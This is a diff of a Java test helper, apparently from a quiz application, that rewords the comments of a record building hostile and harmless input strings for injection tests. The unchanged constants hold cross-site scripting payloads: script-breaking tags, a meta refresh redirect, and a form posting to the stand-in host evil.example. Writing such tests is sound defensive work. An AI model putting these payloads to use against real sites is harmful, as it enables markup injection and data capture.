@@ -15,11 +15,11 @@ import tools.jackson.databind.node.ObjectNode;
 import tools.jackson.databind.node.StringNode;
 import tools.jackson.dataformat.yaml.YAMLMapper;
 
-/** Texts that a person enters into every place there is: as they are meant to do harm, or with a letter for each character that could. */
+/** Texts for every input there is: hostile ones, or harmless ones with a letter in place of each special character. */
 record EnteredTexts(UnaryOperator<String> as) {
     /**
-     * Ends, hides or breaks a script, and then brings markup of its own; with what ends other kinds of text in HTML as well. Has no word that
-     * is too long for a phone.
+     * Closes, hides or breaks a script and then adds its own markup; also contains what ends other kinds of text in HTML. No word is too
+     * long for a phone.
      */
     private static final String MARKUP = "</script><!--<script>]]>\u2028 </title></textarea></style></noscript> "
             + "<meta http-equiv=refresh content=\"0;url=privacy\"> <form action=//evil.example> <input name=q> "
@@ -30,7 +30,10 @@ record EnteredTexts(UnaryOperator<String> as) {
     static final EnteredTexts HOSTILE = new EnteredTexts(UnaryOperator.identity());
     static final EnteredTexts HARMLESS = new EnteredTexts(EnteredTexts::harmless);
 
-    /** Keys of quiz files that hold words for people. The rest are ids and kinds, which the schema restricts to letters, figures and hyphens. */
+    /**
+     * Keys of quiz files whose values are free text. The others are ids and types, which the schema restricts to letters, digits and
+     * hyphens.
+     */
     private static final Set<String> WORDS = Set.of(
             "title",
             "summary",
@@ -48,13 +51,13 @@ record EnteredTexts(UnaryOperator<String> as) {
             "stem",
             "explanation");
 
-    /** Those of them in which there is room for little. */
+    /** Those with a short length limit. */
     private static final Set<String> SHORT = Set.of("title", "outlet", "label", "author");
 
     private static final Path QUIZZES = Path.of("src/test/resources/org/framewise/loading");
     private static final YAMLMapper YAML = new YAMLMapper();
 
-    /** The same length, and nothing that HTML or JavaScript takes for more than a letter. */
+    /** A text of the same length in which HTML and JavaScript see nothing but letters. */
     static String harmless(String text) {
         return text.codePoints()
                 .map(c -> Character.isLetterOrDigit(c) || c == ' ' ? c : 'x')
@@ -62,12 +65,12 @@ record EnteredTexts(UnaryOperator<String> as) {
                 .toString();
     }
 
-    /** @param name begins the text, so that it can be told from others */
+    /** @param name a prefix that identifies the text */
     String text(String name) {
         return name + as.apply(MARKUP);
     }
 
-    /** For names, which have 40 characters at most and no line separators. */
+    /** For names, which have at most 40 characters and no line separators. */
     List<String> names() {
         return Stream.of(
                         "</script><b>x</b>",
@@ -83,7 +86,7 @@ record EnteredTexts(UnaryOperator<String> as) {
         return name + as.apply(SHORT_MARKUP);
     }
 
-    /** Parts of an address, with the slashes between them. Line separators and semicolons are refused at the door. */
+    /** URL path segments, with the slashes between them. Line separators and semicolons are rejected before they reach a page. */
     String segment() {
         return String.join("/", as.apply("<"), as.apply("script><h1>x<"), as.apply("h1><!--<script>]]>'\"&amp"));
     }
@@ -92,13 +95,13 @@ record EnteredTexts(UnaryOperator<String> as) {
         return as.apply("Ff<!--<script>'\"&amp;") + ".yaml";
     }
 
-    /** A file that cannot be read, and says so in words of its own. */
+    /** A file that can't be read, with a message that quotes it. */
     String brokenFile() {
         return "format: 1\nid: \"" + as.apply("Ff </script><!--<script>") + "\"\nitems: " + as.apply("<!--<script>")
                 + "\n";
     }
 
-    /** A quiz from a file of the tests, with the text at the end of everything that is shown. */
+    /** A quiz from a test file, with the text appended to everything that is shown. */
     String quiz(String file, String id) {
         try {
             ObjectNode quiz = (ObjectNode) YAML.readTree(Files.readString(QUIZZES.resolve(file)));
@@ -138,7 +141,7 @@ record EnteredTexts(UnaryOperator<String> as) {
         }
     }
 
-    /** Categories of its own make a statement's key a text as well; then it can't count for discernment. */
+    /** With categories of its own, a statement's key is text too; then it can't count for discernment. */
     private void nameCategories(ObjectNode item) {
         item.remove("counts_for_discernment");
         ArrayNode named = item.arrayNode();
@@ -161,7 +164,7 @@ record EnteredTexts(UnaryOperator<String> as) {
         }
     }
 
-    /** A choice that quotes a source has to stay as the source has it. */
+    /** A choice that quotes a source must match the source verbatim. */
     private static boolean isQuoted(ObjectNode part, String key) {
         return key.equals("text") && part.has("source") && part.has("rationale") && part.has("id") && !part.has("key");
     }
